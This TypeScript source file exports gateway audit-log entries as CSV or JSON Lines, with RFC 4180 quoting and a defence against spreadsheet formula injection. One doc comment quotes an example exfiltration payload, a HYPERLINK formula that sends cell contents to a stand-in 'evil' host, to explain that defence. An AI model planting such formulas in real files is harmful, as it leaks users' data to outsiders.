import type { AuditEntryView } from './audit-query';

export type ExportFormat = 'csv' | 'jsonl';

export const EXPORT_CONTENT_TYPES: Record<ExportFormat, string> = {
  csv: 'text/csv; charset=utf-8; header=present',
  jsonl: 'application/x-ndjson; charset=utf-8',
};

export const CSV_COLUMNS = [
  'id',
  'at',
  'time',
  'type',
  'outcome',
  'user_id',
  'user_email',
  'client_id',
  'upstream_slug',
  'mcp_method',
  'tool',
  'status',
  'duration_ms',
  'ip',
  'detail',
  'tool_arguments',
] as const;

/** The header record (RFC 4180 §2.3), CRLF-terminated like every record (§2.1). */
export const CSV_HEADER = CSV_COLUMNS.join(',') + '\r\n';

/**
 * One CSV field. Formula injection (OWASP "CSV Injection"): a spreadsheet opening the file runs a
 * cell that starts with = + - @ (or a tab or CR, which some read past) as a formula, e.g.
 * `=HYPERLINK("https://evil/?"&A1)`, and the audit log holds outsider-chosen text: the email typed
 * at a failed sign-in, client names, tool names, details. Such a cell gets a leading single quote,
 * which spreadsheets read as "this is text" and show as is. Only text columns go through this:
 * numbers the gateway wrote are never negative. Then RFC 4180 §2.6-2.7: a field holding a comma,
 * a quote, CR or LF is enclosed in double quotes, and its quotes are doubled.
 */
export function csvField(value: string | number | null): string {
  if (value === null) return '';
  if (typeof value === 'number') return String(value);
  const text = /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

export function csvRecord(row: AuditEntryView): string {
  return (
    [
      row.id,
      row.at,
      new Date(row.at).toISOString(),
      row.type,
      row.outcome,
      row.user?.id ?? null,
      row.user?.email ?? null,
      row.clientId,
      row.upstreamSlug,
      row.mcpMethod,
      row.tool,
      row.status,
      row.durationMs,
      row.ip,
      row.detail ? JSON.stringify(row.detail) : null,
      row.toolArguments ? JSON.stringify(row.toolArguments) : null,
    ]
      .map(csvField)
      .join(',') + '\r\n'
  );
}

/** One JSON Lines record: the API's row shape on one line (JSON.stringify escapes every newline inside). */
export function jsonLine(row: AuditEntryView): string {
  return JSON.stringify(row) + '\n';
}
